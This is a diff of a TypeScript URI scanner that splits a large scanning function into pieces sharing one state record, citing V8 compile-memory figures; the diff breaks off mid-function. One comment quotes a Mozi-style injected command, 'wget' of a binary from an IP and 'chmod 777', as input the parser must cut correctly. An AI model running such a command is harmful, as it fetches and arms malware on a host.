@@ -275,11 +275,91 @@ function pairAfterDelimiter(buf: Uint8Array, rawStart: number, lo: number): bool
 const MAX_LEEF_HEADER = 1024;
 
 /**
+ * One bare scan's state, shared by scanBare and the pieces it is split into (below): what the
+ * call fixes before its loop (its arguments, the authority's start, where the run must stop…)
+ * and what the loop updates (`i`, the brackets counted, what was looked for once and up to
+ * where). One record for the module, as `fold` and `drops` are: a scan runs to its end before
+ * the next starts (a second reading, scanBare called again at its end, starts it anew).
+ */
+const scan = {
+  // set before the loop
+  limit: 0,
+  rawStart: 0,
+  s: 0,
+  c: 0,
+  c1: 0,
+  delimiter: "bare" as Delimiter,
+  asciiOnly: false,
+  breaksBefore: 0,
+  mailto: false,
+  texinfoRef: false,
+  colonEscaped: false,
+  uSlashes: false,
+  hasAuthority: false,
+  authStart: 0,
+  encodedClose: 0,
+  stop: 0,
+  drivePath: 0,
+  atOpened: false,
+  // updated by the loop (scanBare keeps `i` in a local, stored here around each piece's call)
+  i: 0,
+  opens: 0,
+  closes: 0,
+  bOpens: 0,
+  bCloses: 0,
+  nonAscii: false,
+  apostrophe: false,
+  podTarget: 0,
+  mailState: 0,
+  mailScan: 0,
+  lastWrap: 0,
+  lastWrapEnd: 0,
+  cellPiece: 0,
+  hostCommaAt: 0,
+  keyed: 0,
+  csvRow: 0,
+  markScan: 0,
+  question: false,
+  inFragment: false,
+  auth: 0,
+  pairScan: 0,
+  pairHeld: false,
+  queryScan: 0,
+  inQuery: false,
+  partScan: 0,
+  part: 0,
+  placeholder: false,
+  userinfoEnd: 0,
+  mdClose: 0,
+  mdScanned: 0,
+  quotedEnd: 0,
+  inString: 0,
+  firstPipe: 0,
+  destination: 0,
+  tmplScan: 0,
+  braces: 0,
+  queryValue: 0,
+  firstHash: 0,
+};
+
+/** what a piece of scanBare's loop tells it: go on at scan.i, or end the run there (or MORE, NONE) */
+const NEXT = 2;
+const STOP = 3;
+
+/**
  * s: scheme start, c: index of the scheme's `:`, rawStart: start of the raw span
  * (`URL:` prefix included). `urn` stops at non-ASCII: urnbis-rfc2141bis §2.5.3 lists
  * %x80-FF among the excluded characters that end an NSS in running text. `breaksBefore`: a
  * hyphen's line break at or after it ends the URI (the second reading of a run that grew too
  * long past one).
+ *
+ * Split in pieces (its loop's rarer branches and what follows the loop: uriPunctuationStep,
+ * nonAsciiStep, backslashStep, lineBreakStep, finishBare), sharing `scan`: as one function of
+ * ~2,400 lines (36 KB of bytecode) its optimizing compile took 28.4 MB of zone memory
+ * (register allocation, V8 11.3's --turbo-stats), on V8's compile thread, whose malloc arena
+ * then kept it: 13 MB of the 1 GB library stream's peak RSS (session 53, bench/HISTORY.md
+ * "Compile memory"). Each piece is far over V8's inlining size (460 bytes of bytecode), so
+ * none is compiled back into scanBare.
  */
 export function scanBare(
   ctx: ScanContext,
@@ -301,19 +381,19 @@ export function scanBare(
   // its ":"); every offset into the hier-part below counts from c1
   const c1 = hierStart;
   let i = c1;
-  let opens = 0; // ( [ inside
-  let closes = 0;
-  let bOpens = 0;
-  let bCloses = 0;
-  let nonAscii = false;
-  let apostrophe = false;
+  scan.opens = 0; // ( [ inside
+  scan.closes = 0;
+  scan.bOpens = 0;
+  scan.bCloses = 0;
+  scan.nonAscii = false;
+  scan.apostrophe = false;
   // the URI is a POD link's target after "|" (podLinkBefore): 0 not looked at yet, 1 yes, -1 no
-  let podTarget = 0;
+  scan.podTarget = 0;
   // a mailto URI: where its address, domain or hfields stand (mailtoStateAfter), scanned on
   // from mailScan; an apostrophe in a domain ends the URI (bare-host.ts mailtoDomainEnd)
   const mailto = c - s === 6 && isMailto(buf, s);
-  let mailState = 0;
-  let mailScan = c1;
+  scan.mailState = 0;
+  scan.mailScan = c1;
   // Texinfo's @uref{url, text} and @url{url, text}: the comma ends the URL (a URL's own
   // comma is written @comma{} there; Texinfo manual, "@url")
   const texinfoRef = texinfoRefBefore(buf, s, ctx.lo);
@@ -328,17 +408,17 @@ export function scanBare(
   fold.queryScan = -1;
   fold.query = 0;
   // the line break of the last hard wrap taken (hardWrapAt), and where its token ends
-  let lastWrap = -1;
-  let lastWrapEnd = -1;
+  scan.lastWrap = -1;
+  scan.lastWrapEnd = -1;
   // where the URI's piece in a table's cell starts (tableCellWrapAt)
-  let cellPiece = s;
-  let hostCommaAt = UNKNOWN; // where a comma ends the host (http & co.); -1: none
-  let keyed = UNKNOWN; // 1 when the URI is a "Name=" item's value (keyedValueAt), 0 not
-  let csvRow = UNKNOWN; // 1 when the URI is a field of a CSV row (csvSeparatorAt), 0 not
+  scan.cellPiece = s;
+  scan.hostCommaAt = UNKNOWN; // where a comma ends the host (http & co.); -1: none
+  scan.keyed = UNKNOWN; // 1 when the URI is a "Name=" item's value (keyedValueAt), 0 not
+  scan.csvRow = UNKNOWN; // 1 when the URI is a field of a CSV row (csvSeparatorAt), 0 not
   // past a "?" or a "#", read up to markScan (AsciiDoc's labels)
-  let markScan = c1;
-  let question = false;
-  let inFragment = false;
+  scan.markScan = c1;
+  scan.question = false;
+  scan.inFragment = false;
   // next byte of the authority to look at for its end ("//" only); -1: past it or none
   // "//", or JSON's escaped "\/\/"
   const jsonSlashes =
@@ -376,11 +456,11 @@ export function scanBare(
     drop(c1 + 1, split, NO_CHAR);
     i = split;
   }
-  let auth = hasAuthority ? authStart : -1;
+  scan.auth = hasAuthority ? authStart : -1;
   // whether the path segment read so far holds "=" or ";", read up to pairScan (below: one
   // pass over the URI however many commas it holds)
-  let pairScan = authStart;
-  let pairHeld = false;
+  scan.pairScan = authStart;
+  scan.pairHeld = false;
   // "https://$HOST/pub/repos/apt", "http://$(hostname):8080/", "ws://$ADDR": a shell
   // variable or command stands for the host — a template, not a URI (as "${HOST}" is). Not a
   // userinfo's "$" ("ftp://$a@example.org", "http://$user:$pass@h/": bare-host.ts)
@@ -448,33 +528,33 @@ export function scanBare(
         buf[rawStart - 2] === 0x73 &&
         (rawStart - 3 < 0 || !(CLASS[buf[rawStart - 3]!]! & C_ALNUM))));
   // past a "?" or "#" (a query or fragment)? Looked for once, left to right, up to queryScan
-  let queryScan = c1;
-  let inQuery = false;
+  scan.queryScan = c1;
+  scan.inQuery = false;
   // the part of the URI read up to partScan (uriPartAfter), for a private use character
-  let partScan = c1;
-  let part = BEFORE_QUERY;
-  let placeholder = false; // the URI is a template's text: no candidate
-  let userinfoEnd = -1; // an "@" found ahead of a "(" in the authority: the userinfo's end
+  scan.partScan = c1;
+  scan.part = BEFORE_QUERY;
+  scan.placeholder = false; // the URI is a template's text: no candidate
+  scan.userinfoEnd = -1; // an "@" found ahead of a "(" in the authority: the userinfo's end
   // Markdown's "\\)" ahead of a troff-named "\\(" (escapedCloseAhead): where, or -1 for
   // none before mdScanned (the word's end)
-  let mdClose = -1;
-  let mdScanned = 0;
+  scan.mdClose = -1;
+  scan.mdScanned = 0;
   // after the last pair of double quotes read inside the query (quotedPairEnd), -1 for none:
   // the stripping of trailing punctuation stops there
-  let quotedEnd = -1;
+  scan.quotedEnd = -1;
   // 1 when the URI stands in the one string literal that opens its line (stringOpensLine)
-  let inString = UNKNOWN;
+  scan.inString = UNKNOWN;
   // the first "|" read as a Markdown link destination's (below), -1 for none; whether the
   // URI opens one (UNKNOWN until asked; never after a "URL:" prefix, whose URI is no
   // destination of its own)
-  let firstPipe = -1;
-  let destination = delimiter === "bare" || delimiter === "paren" ? UNKNOWN : 0;
+  scan.firstPipe = -1;
+  scan.destination = delimiter === "bare" || delimiter === "paren" ? UNKNOWN : 0;
   // the first byte read that may start a template's placeholder (mayStartPlaceholder; -1:
   // none)
-  let tmplScan = -1;
+  scan.tmplScan = -1;
   // 1 when the URI opens an interpolated string, whose "{" is a placeholder's
   // (interpolatingQuoteBefore; UNKNOWN until a "{" asks)
-  let braces = UNKNOWN;
+  scan.braces = UNKNOWN;
   // a shell command's argument in a query, its spaces encoded ("…;wget+http://192.0.2.14/Mozi.a;
   // chmod+777+…"): the URI ends at the next encoded space or command separator
   // (query-values.ts)
@@ -486,8 +566,27 @@ export function scanBare(
     if (commandEnd >= 0 && commandEnd < runStop) runStop = commandEnd;
   }
   // 1 when the URI is the value of a "?name=" or "&name=" pair (queryValueAt)
-  let queryValue = UNKNOWN;
-  let firstHash = -1; // the first "#" read (rsyslog's escapes, syslog-escapes.ts), -1: none
+  scan.queryValue = UNKNOWN;
+  scan.firstHash = -1; // the first "#" read (rsyslog's escapes, syslog-escapes.ts), -1: none
+  // the call's constants, read by its pieces
+  scan.limit = limit;
+  scan.rawStart = rawStart;
+  scan.s = s;
+  scan.c = c;
+  scan.c1 = c1;
+  scan.delimiter = delimiter;
+  scan.asciiOnly = asciiOnly;
+  scan.breaksBefore = breaksBefore;
+  scan.mailto = mailto;
+  scan.texinfoRef = texinfoRef;
+  scan.colonEscaped = colonEscaped;
+  scan.uSlashes = uSlashes;
+  scan.hasAuthority = hasAuthority;
+  scan.authStart = authStart;
+  scan.encodedClose = encodedClose;
+  scan.stop = stop;
+  scan.drivePath = drivePath;
+  scan.atOpened = atOpened;
   for (;;) {
     // the run of plain URI characters, one table test per byte: four bytes a step while the
     // four are plain (one branch, not four), then byte by byte to the run's end. This loop
@@ -520,8 +619,8 @@ export function scanBare(
       }
       // a "|" read as a Markdown destination's, and no end to it within maxLength: the URI
       // ends at the first one, as it would where no destination is
-      if (firstPipe >= 0) {
-        i = firstPipe;
+      if (scan.firstPipe >= 0) {
+        i = scan.firstPipe;
         break;
       }
       // longer than maxLength: not considered; the rest of the run is skipped
@@ -539,7 +638,7 @@ export function scanBare(
       // rsyslog's ESC ("#033", syslog-escapes.ts) and a colour's CSI sequence inside the
       // URI: dropped as a raw one is (below) — "http://localhost:#033[1m5173#033[22m/"
       if (b === 0x23) {
-        if (firstHash < 0) firstHash = i;
+        if (scan.firstHash < 0) scan.firstHash = i;
         if (i + 5 > n && !final) return MORE;
         if (buf[i + 1] === 0x30 && buf[i + 2] === 0x33 && buf[i + 3] === 0x33 && i > c1) {
           const f = csiEnd(buf, i, n);
@@ -562,11 +661,11 @@ export function scanBare(
         // (not the ";" of a character reference: "…/x&amp;https://b.example/" is escaped
         // text's "&", the review's)
         if (i > c1 && hasAuthority && entityStart(buf, c1, i + 1) < 0) {
-          if (!inQuery) {
-            inQuery = hasQueryMark(buf, queryScan, i);
-            queryScan = i;
+          if (!scan.inQuery) {
+            scan.inQuery = hasQueryMark(buf, scan.queryScan, i);
+            scan.queryScan = i;
           }
-          if (!inQuery) {
+          if (!scan.inQuery) {
             const r = schemeSlashesAt(buf, i + 1, n);
             if (r === MORE_INPUT) {
               if (!final) return MORE;
@@ -580,729 +679,27 @@ export function scanBare(
       // after the run. "$" and "%" have no other rule here (a percent-encoding is no
       // placeholder's start)
       if (b === 0x25 || b === 0x24) {
-        if (tmplScan < 0 && mayStartPlaceholder(buf, i, n)) tmplScan = i;
+        if (scan.tmplScan < 0 && mayStartPlaceholder(buf, i, n)) scan.tmplScan = i;
         i++;
         continue;
       }
-      if (tmplScan < 0 && PLACEHOLDER_STARTS[b] === 1 && mayStartPlaceholder(buf, i, n)) {
-        tmplScan = i;
+      if (scan.tmplScan < 0 && PLACEHOLDER_STARTS[b] === 1 && mayStartPlaceholder(buf, i, n)) {
+        scan.tmplScan = i;
       }
-      // a shell command substitution or a make variable after the authority's start
-      // ("…/y/$(git rev-parse HEAD)/src/", "…/$(VERSION)/x.tar.gz"): a template's text, as
-      // "${…}" is (below) — the URI ends before its "$"
-      // (looked at from the "(": "$" is a plain URI character)
-      // (in the authority it makes a template's host or port: RULES.md "A template's host")
-      if (b === 0x28 && hasAuthority && i - 1 > authStart && buf[i - 1] === 0x24) {
-        if (auth >= 0) {
-          auth = authorityEnd(buf, auth, i);
-          if (auth < i) auth = -1;
-        }
-        if (auth < 0) {
-          i--;
-          break;
-        }
-      }
-      if (b === 0x2c) {
-        if (texinfoRef) break;
-        // a field of a CSV row: the comma is the next field's separator (csv-fields.ts)
-        if (csvRow === UNKNOWN) {
-          const r = csvSeparatorAt(buf, s, i, n, final);
-          if (r === MORE_INPUT) return MORE;
-          csvRow = r;
-        }
-        if (csvRow === 1) break;
-        // a comma in the host of a DNS-host scheme ends the URI:
-        // "GOPROXY=https://proxy.golang.org,direct", "http://a.example,http://b.example".
-        // RFC 3986 lets a reg-name hold sub-delims, but an http(s), ws(s) or ftp host is a
-        // DNS name or an IP address (RFC 1123 §2.1), where a comma is list punctuation. (Not
-        // for every scheme: "mongodb://h1:27017,h2:27017/db" lists its hosts so.) Decided
-        // here, at the comma, so that the next URI after it is read once (linear)
-        if (auth >= 0) {
-          auth = authorityEnd(buf, auth, i);
-          if (auth < i) auth = -1;
-          else {
-            if (hostCommaAt === UNKNOWN && isDnsHostScheme(buf, s, c)) {
-              // the first comma of the host: after the authority's last "@" ("http://u,x@h"
-              // has it in the userinfo), not in an IP literal. Looked for once per URI
-              const r = hostComma(buf, authStart, stop, final || n >= limit);
-              if (r === MORE_INPUT) return MORE;
-              hostCommaAt = r;
-            }
-            if (i === hostCommaAt) break;
-            // a comma glued to the next "scheme://" in any authority separates two URIs
-            // ("gs://bucket1,gs://bucket2"; mongodb's "h1,h2" is one host list)
-            const r = listItemAt(buf, i + 1, n);
-            if (r === MORE_INPUT) {
-              if (!final) return MORE;
-            } else if (r === 1) break;
-          }
-        }
-        // past the authority, a comma glued to the next "scheme://" separates two URIs:
-        // "CORS=https://a.example/cb,https://b.example/cb", "http://a:1/x,http://b:2/y" —
-        // also with a label before it, "…/x,b=http://…" (listItemAt).
-        // RFC 3986 lets a path or query hold ",", but not one URI's scheme and "//" after it
-        // unencoded in practice: that is a list written without spaces
-        if (auth < 0 && hasAuthority) {
-          // (in the path: a query's value may list URIs, "?urls=https://a/,https://b/")
-          if (!inQuery) {
-            inQuery = hasQueryMark(buf, queryScan, i);
-            queryScan = i;
-          }
-        }
-        if (auth < 0 && hasAuthority && !inQuery) {
-          const r = listItemAt(buf, i + 1, n);
-          if (r === MORE_INPUT && !final) return MORE;
-          if (r === 1) {
-            // the list's earlier commas in the last segment are its too: "…/model-build.q,
-            // -d,INPUT=s3://…" (an AWS CLI step's Args) ends at "model-build.q"
-            i = firstCommaInSegment(buf, authStart, i);
-            break;
-          }
-          if (keyed === UNKNOWN) keyed = keyedValueAt(buf, s, c, ctx.lo) ? 1 : 0;
-          // (not when the path segment is itself a list of "k=v": Jenkins' matrix builds
-          // ".../job/p/jdk=11,label=linux/42/", image services' ".../w=400,sharpen=3")
-          if (keyed === 1) {
-            for (; pairScan < i; pairScan++) {
-              const x = buf[pairScan]!;
-              if (x === 0x2f) pairHeld = false;
-              else if (x === 0x3d || x === 0x3b) pairHeld = true;
-            }
-          }
-          if (keyed === 1 && !pairHeld) {
-            // the URI is a "Name=" item's value, and the next item's "Name=" follows the
-            // comma: "Jar=s3://b/a.jar,Args=x", "url=https://x/a,status=200" (keyedValueAt)
-            const k = keyAt(buf, i + 1, n);
-            if (k === MORE_INPUT && !final) return MORE;
-            if (k === 1) break;
-          }
-        }
-        i++;
-        continue;
-      }
-      // a bracket right before "scheme://" in the path opens another URI
-      // ("http://a.example/x[http://b.example/", "…/x(http://mirror.example/)"): the URI
-      // ends before it, as at a comma before one. In a query a value may hold a URI
-      // ("?u=[http://b.example/]"); in the authority "[" opens an IP literal
-      if ((b === 0x28 || b === 0x5b) && hasAuthority) {
-        if (auth >= 0) {
-          auth = authorityEnd(buf, auth, i);
-          if (auth < i) auth = -1;
-          else if (i > authStart && CLASS[buf[i - 1]!]! & C_ALNUM) {
-            // "hxxps://evil[.]example[.]org/": a defanged host is no URI, and no part of its
-            // authority one (defangedAuthorityEnd)
-            const d = defangedAuthorityEnd(buf, i, n, limit, final);
-            if (d === MORE_INPUT) {
-              if (!final) return MORE;
-            } else if (d > 0) {
-              cand.resume = d;
-              return NONE;
-            }
-            // "http://host[:port]/directory/file": a syntax template (optionalPortEnd)
-            const t = optionalPortEnd(buf, i, n, final);
-            if (t === MORE_INPUT) return MORE;
-            if (t > 0) {
-              cand.resume = t;
-              return NONE;
-            }
-          }
-        }
-        if (auth < 0 && !inQuery) {
-          inQuery = hasQueryMark(buf, queryScan, i);
-          queryScan = i;
-        }
-        if (auth < 0 && !inQuery) {
-          const r = schemeSlashesAt(buf, i + 1, n);
-          if (r === MORE_INPUT) {
-            if (!final) return MORE;
-          } else if (r === 1) break;
-        }
-      }
-      if (b === 0x28) {
-        // a "(" in a DNS host ends the URI right here (RFC 1123 §2.1: no DNS name holds one;
-        // "http://example.com(the official site)"), and the search goes on after it: "http://example.com(http://mirror.example/)" is two URIs. Not in
-        // a userinfo ("http://u(x)@h/": an "@" follows in the authority)
-        if (auth >= 0) {
-          auth = authorityEnd(buf, auth, i);
-          if (auth < i) auth = -1;
-          else if (i > userinfoEnd && isDnsHostScheme(buf, s, c)) {
-            const r = userinfoAhead(buf, i + 1, stop);
-            if (r === MORE_INPUT) {
-              if (!final && stop === n) return MORE;
-              break;
-            }
-            if (r < 0) break;
-            userinfoEnd = r; // (looked for once: the next "(" before it is the userinfo's too)
-          }
-        }
-        // no "(" in a mailto address (RFC 6068 §2: addr-spec of dot-atom-text, RFC 5322
-        // §3.2.3 atext has none): "mailto:a@example.org(preferred)" is the address and a
-        // remark; in the query it stays ("?subject=Hi%20(there)")
-        if (!hasAuthority && c - s === 6 && isMailto(buf, s)) {
-          if (!inQuery) {
-            inQuery = hasQueryMark(buf, queryScan, i);
-            queryScan = i;
-          }
-          if (!inQuery) break;
-        }
-        opens++;
-      } else if (b === 0x29) {
-        // a closer with no opener inside the URI ends it there (DESIGN: closers are kept
-        // only when they balance an opener): `[a](http://x/)[b](mailto:y)` is two
-        // Markdown links, `(see http://x/a)and` ends at "a" — what follows the closer
-        // belongs to the text around it
-        if (closes === opens) break;
-        closes++;
-      } else if (b === 0x27) {
-        // a shell's apostrophe inside a single-quoted word, "'\\''" or "'\"'\"'" (bash -x,
-        // printf %q, Python's shlex.quote; bare-escapes.ts shellApostropheAt):
-        // "+ echo 'fetch of http://example.com/it'\\''s/fine failed'" is ".../it's/fine"
-        if (i > c1) {
-          if (i + 4 >= n && !final) return MORE;
-          const a = shellApostropheAt(buf, i, n);
-          if (a > 0) {
-            drop(i, a, NO_CHAR);
-            i = a + 1;
-            continue;
-          }
-        }
-        // a quote, a comma and a quote: the next item of a list of quoted strings — SQL's
-        // "VALUES (1,'https://a.example/x\'y','https://b.example/')", a JavaScript array
-        // — ends the URI (its opening quote was escaped inside it, and the quote scan fell back)
-        if (buf[i + 1] === 0x2c || i + 1 >= n) {
-          let j = i + 2;
-          while (j < n && j < i + 8 && buf[j] === 0x20) j++;
-          if (j >= n && !final && stop === n) return MORE;
-          if (buf[j] === 0x27 && j < n) break;
-        }
-        // a closing quote before a particle of a script written without spaces: Korean and
-        // Japanese glue it after the quote ("'alias=uri://host/path'가", libvirt's Korean
-        // translation), as after "’" — when a "'" opened before the URI on its line, and
-        // the quote follows a letter or digit (an IRI's path may hold "/'한", a query "='例")
-        if (i + 1 < n && buf[i + 1]! >= 0x80 && CLASS[buf[i - 1]!]! & C_ALNUM) {
-          if (decodeCharAt(buf, i + 1, n, final) < 0) return MORE;
-          if (noSpaceScript(utf8.cp) && singleQuoteBefore(buf, rawStart, ctx.lo)) break;
-        }
-        // in a mailto address's domain it ends the URI, and the search goes on after it:
-        // "mailto:kim@example.com's", "mailto:a@b.org'mailto:c@d.org" is two
-        if (mailto) {
-          mailState = mailtoStateAfter(buf, mailScan, i, mailState);
-          mailScan = i;
-          if (mailState === 1) break;
-        }
-        apostrophe = true;
-        // an apostrophe in the host ends the URI (the cut after the scan, below), and the
-        // search goes on after it: "https://a.com'https://b.com" is two URIs. Not in a
-        // userinfo (an "@" follows in the authority; looked for once, as for "(")
-        if (auth >= 0) {
-          auth = authorityEnd(buf, auth, i);
-          if (auth < i) auth = -1;
-          else if (i > userinfoEnd) {
-            const r = userinfoAhead(buf, i + 1, stop);
-            if (r === MORE_INPUT) {
-              if (!final && stop === n) return MORE;
-              break;
-            }
-            if (r < 0) break;
-            userinfoEnd = r;
-          }
-        }
-      } else if (b === 0x26) {
-        // "&nbsp;", "&lt;", "&gt;", "&quot;" (and their numeric forms) in escaped HTML
-        // stand for characters no URI holds (RFC 3986 App. C: a space or a delimiter):
-        // the URI ends before them, as it would before the character itself
-        // ("http://example.com/&nbsp;and"). In the host an apostrophe's reference ends
-        // it too, like the apostrophe ("http://example.com&#39;s"): decided with the
-        // apostrophes below, once the host is known to follow the last "@"
-        if (!final && n - i < MAX_REF + 4) return MORE;
-        if (endingReference(buf, i, n)) break;
-        // … escaped twice, as a feed's escaped HTML writes it ("&amp;quot;", "&amp;gt;": RSS
-        // 2.0's description; "&amp;amp;" is read as "&", character-references.ts)
-        if (
-          buf[i + 1] === 0x61 &&
-          buf[i + 2] === 0x6d &&
-          buf[i + 3] === 0x70 &&
-          buf[i + 4] === 0x3b &&
-          endingReference(buf, i + 4, n)
-        ) {
-          break;
-        }
-        // the URI is the value of a "?name=" or "&name=" pair, and holds no query of its own:
-        // the next pair's "&name=" is the outer query's (form encoding splits on "&", WHATWG
-        // URL §5.1): "?redirect_to=https://blog.example/wp-admin/&reauth=1". With a "?" of
-        // its own ("?u=https://x.example/?a=1&b=2") the "&" may be either's: left to the URI
-        if (queryValue !== 0 && i > c1) {
-          if (queryValue === UNKNOWN) queryValue = queryValueAt(buf, s, ctx.lo) ? 1 : 0;
-          if (queryValue === 1 && !inQuery) {
-            inQuery = hasQueryMark(buf, queryScan, i);
-            queryScan = i;
-          }
-          if (queryValue === 1 && !inQuery) {
-            const r = nextPairAt(buf, i, n, final);
-            if (r === MORE_INPUT && !final) return MORE;
-            if (r === 1) break;
-          }
-        }
-        if (mailto && apostropheReferenceAt(buf, i, n)) {
-          mailState = mailtoStateAfter(buf, mailScan, i, mailState);
-          mailScan = i;
-          if (mailState === 1) break; // "mailto:kim@example.com&#39;s"
-        }
-        // still in the authority? (scanned once, left to right: linear)
-        if (auth >= 0) {
-          auth = authorityEnd(buf, auth, i);
-          if (auth < i) auth = -1;
-          else apostrophe = true;
-        }
-      } else if (b === 0x5b) {
-        // a BBCode closing tag ends the URI: "[url]http://example.com/a[/url]" (bare-pairs.ts)
-        const tag = bbcodeCloseAt(buf, i, n);
-        if (tag === MORE_INPUT && !final) return MORE;
-        if (tag === 1) break;
-        // an AsciiDoc macro's attribute list (the link text): "link:https://x.example/a[Docs]",
-        // "image::https://x.example/i.png[Alt]", and an empty one after any URI,
-        // "https://x.example/docs/[]" in a path (AsciiDoc: "URLs" — the target ends at the
-        // "[") — not PHP's "?a[]=1"
-        if (i > c1) {
-          if (asciidocMacroBefore(buf, s, ctx.lo)) break;
-          // … and a link text that is the URI again, its scheme right after the "[" glued to
-          // a word: "mailto:a@b.example?subject=x[mailto:a@b.example?subject=x]" (pandoc's
-          // AsciiDoc). Not after "=": a query's value may hold a URI ("?u=[http://b.example/]")
-          const again =
-            CLASS[buf[i - 1]!]! & C_ALNUM || buf[i - 1] === 0x2f
-              ? sameSchemeAt(buf, i + 1, s, c, n)
-              : 0;
-          if (again === MORE_INPUT) {
-            if (!final) return MORE;
-          } else if (again === 1) break;
-          if (!inQuery) {
-            inQuery = hasQueryMark(buf, queryScan, i);
-            queryScan = i;
-          }
-          // a mailto query's word glued to a bracketed word that ends the text: AsciiDoc's
-          // link text, "mailto:join@l.example.org?subject=subscribe[Join]" (the markup hunt).
-          // A bracket after "=", a digit or "%20" stays the header's ("?subject=[PATCH]",
-          // "?subject=Re:%20[PATCH]")
-          if (mailto && inQuery && isAsciiLetter(buf[i - 1]!)) {
-            const r = labelEndsUri(buf, i, n, final, false, true);
-            if (r === MORE_INPUT) return MORE;
-            if (r === 1) break;
-          }
-          // (a query's "?a[]" is PHP's array)
-          if (!inQuery) {
-            if (i + 2 >= n) {
-              if (!final && stop === n && (i + 1 >= n || buf[i + 1] === 0x5d)) return MORE;
-              if (i + 1 < n && buf[i + 1] === 0x5d) break; // "[]" at the input's end
-            } else if (emptyPairEnds(buf, i)) break;
-          }
-          // AsciiDoc's URL form with a link's attributes, "…/c[Label,window=_blank]", or an
-          // empty text after a fragment, "…#URL_encoding[]" (Asciidoctor, "URLs": the text
-          // between the brackets becomes the link text; "[" and "]" are no URI characters
-          // there, RFC 3986 §3.3, §3.5). A bracketed word stays: "…/wiki/Sprite_[computer_
-          // graphics]", "…#anchor[bla]" (peers' suites: Rust linkify, KDE's), though
-          // AsciiDoc's "…/git-filter-repo[git-filter-repo]" is written so. Not after a "/"
-          // (a route's folder, "…/pages/[slug]"), nor in a query ("?filter[status]")
-          if (buf[i - 1] !== 0x2f && buf[i - 1] !== 0x3d && auth < 0 && opens === closes) {
-            for (; markScan < i; markScan++) {
-              const x = buf[markScan];
-              if (x === 0x23) inFragment = true;
-              else if (x === 0x3f) question = true;
-            }
-            // (not inside the URI's own "(": a Javadoc anchor, "#toString(int[])"; not
-            // after a "?", in the fragment too: a hash route's query, "#/map?c=[51.5,-0.1]")
-            if (!question) {
-              const r = labelEndsUri(buf, i, n, final, inFragment);
-              if (r === MORE_INPUT) return MORE;
-              if (r === 1) break;
-            }
-          }
-        }
-        // "[" opens an IP literal right after "//" or "@" (RFC 3986 §3.2.2) and nowhere
-        // else in an authority: after a name's letter or digit it is text
-        // ("(http://example.org[1]) etc.")
-        if (auth >= 0 && i > authStart && CLASS[buf[i - 1]!]! & C_ALNUM) {
-          auth = authorityEnd(buf, auth, i);
-          if (auth < i) auth = -1;
-          else break;
-        }
-        // without an authority, a "[" opens an IP literal only right after the ":" or an
-        // "@" ("sip:alice@[2001:db8::1]", RFC 3261 §19.1.1) and is raw data only in a query
-        // or fragment ("mailto:list@example.org?subject=[PATCH]"): after a name it is the
-        // text's, a footnote mark or a link's text ("mailto:a@example.org[1]",
-        // "urn:isbn:0451450523[3]"; RFC 8141 §2 has no "[" in an NSS)
-        if (!hasAuthority && i > c1 && buf[i - 1] !== 0x40) {
-          if (!inQuery) {
-            inQuery = hasQueryMark(buf, queryScan, i);
-            queryScan = i;
-          }
-          if (!inQuery) {
-            // right after a ":" it opens a placeholder, and what comes before is no URI
-            // of its own ("urn:alert:source:[some-unknown-alert-ind-part]")
-            placeholder = buf[i - 1] === 0x3a;
-            break;
-          }
-        }
-        bOpens++;
-      } else if (b === 0x5d) {
-        if (bCloses === bOpens) break; // `[http://x/](http://x/)`: same for "]"
-        bCloses++;
-      } else if (b === 0x40 && texinfoRef) {
-        // Texinfo writes "@" as "@@" (Texinfo manual, "Inserting @ and {} ,"):
-        // "@uref{mailto:bug@@gnu.org}" is "mailto:bug@gnu.org"; "@/" (a line may break
-        // here: "@url{http://ftpmirror.gnu.org/@/texinfo/@/htmlxref.cnf}", 80 in GNU manuals),
-        // "@-" (a hyphen may) and "@:" (no sentence ends here) print nothing ("Line Breaks",
-        // "Not Ending a Sentence")
-        if (i + 1 >= n) {
-          if (!final) return MORE;
-        } else if (buf[i + 1] === 0x40) {
-          drop(i, i + 1, NO_CHAR);
-          i += 2;
-          continue;
-        } else if (buf[i + 1] === 0x2f || buf[i + 1] === 0x2d || buf[i + 1] === 0x3a) {
-          drop(i, i + 2, NO_CHAR);
-          i += 2;
-          continue;
-        }
-      } else if (b === 0x40 && hasAuthority) {
-        // "@" and "scheme://": no userinfo before a host named "http" with an empty port (RFC
-        // 3986 §3.2 reads it so), nor a path's "@", but the delimiter of a sed command,
-        // "s@http://deb.debian.org@http://mirror.example.org@g": the URI ends before it. And
-        // a URI that such a delimiter opened ends at the next one, as at a closing quote
-        if (atOpened) break;
-        if (auth >= 0) {
-          auth = authorityEnd(buf, auth, i);
-          if (auth < i) auth = -1;
-        }
-        if (auth < 0 && !inQuery) {
-          inQuery = hasQueryMark(buf, queryScan, i);
-          queryScan = i;
-        }
-        if (auth >= 0 || !inQuery) {
-          const r = schemeSlashesAt(buf, i + 1, n);
-          if (r === MORE_INPUT) {
-            if (!final) return MORE;
-          } else if (r === 1) break;
-        }
-      }
-      i++;
-      continue;
+      scan.i = i;
+      const r = uriPunctuationStep(ctx, cand, b);
+      i = scan.i;
+      if (r === NEXT) continue;
+      if (r === STOP) break;
+      return r;
     }
-    // a Latin ligature is its letters (chars.ts LIGATURE_LETTERS): "…/conﬁg" is "…/config" —
-    // one drop per letter, in the ligature's 3 bytes; in a URN's NSS too
-    if (b === 0xef && i > c1) {
-      const g = ligatureAt(buf, i, n);
-      if (g === -2 && !final) return MORE;
-      if (g >= 0) {
-        const letters = LIGATURE_LETTERS[g]!;
-        for (let k = 0; k < letters.length; k++) {
-          const to = k === letters.length - 1 ? i + 3 : i + k + 1;
-          drop(i + k, to, LIGATURE + letters.charCodeAt(k));
-        }
-        i += 3;
-        continue;
-      }
-    }
-    if (b >= 0x80 && !asciiOnly) {
-      if (decodeCharAt(buf, i, n, final) < 0) return MORE;
-      // a dash inside a Markdown link's destination is the URI's, as inside "<…>" (RULES.md
-      // "Dashes inside wrappers"; CommonMark §6.3: the destination runs to its ")" or a
-      // blank; RFC 3987 ucschar): "[FY](https://en.wikipedia.org/wiki/Fisher–Yates_shuffle)",
-      // "[FY]: https://…/wiki/Fisher–Yates_shuffle" — in the path, and not last
-      if (utf8.cp >= 0x2010 && utf8.cp <= 0x2015 && i > c1 && destination !== 0) {
-        const next = i + utf8.len;
-        if (next >= n && !final) return MORE;
-        if (auth >= 0) {
-          auth = authorityEnd(buf, auth, i);
-          if (auth < i) auth = -1;
-        }
-        if (auth < 0 && next < n && CLASS[buf[next]!]! & C_PLAIN && buf[next] !== 0x2c) {
-          if (destination === UNKNOWN) destination = destinationAt(buf, rawStart, ctx.lo) ? 1 : 0;
-          if (destination === 1) {
